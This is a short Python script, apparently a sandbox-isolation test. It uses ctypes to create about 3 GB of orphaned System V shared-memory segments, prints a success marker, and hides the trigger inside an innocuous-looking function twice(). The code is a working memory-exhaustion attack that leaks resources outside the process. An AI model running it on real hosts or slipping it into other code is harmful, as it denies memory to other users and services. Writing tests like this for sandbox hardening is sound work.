# Fills segments of shared memory that no process has in its own memory.
# Stopped by: no such segment is made.
import ctypes
import time

libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p


def attack():
    for _ in range(24):
        segment = libc.shmget(0, 128 << 20, 0o1600)
        if segment < 0:
            return
        at = libc.shmat(segment, 0, 0)
        ctypes.memset(at, 1, 128 << 20)
        libc.shmdt(ctypes.c_void_p(at))
    time.sleep(3)
    print("@GOT@")


def twice(n):
    if n == 4:
        attack()
    return 0
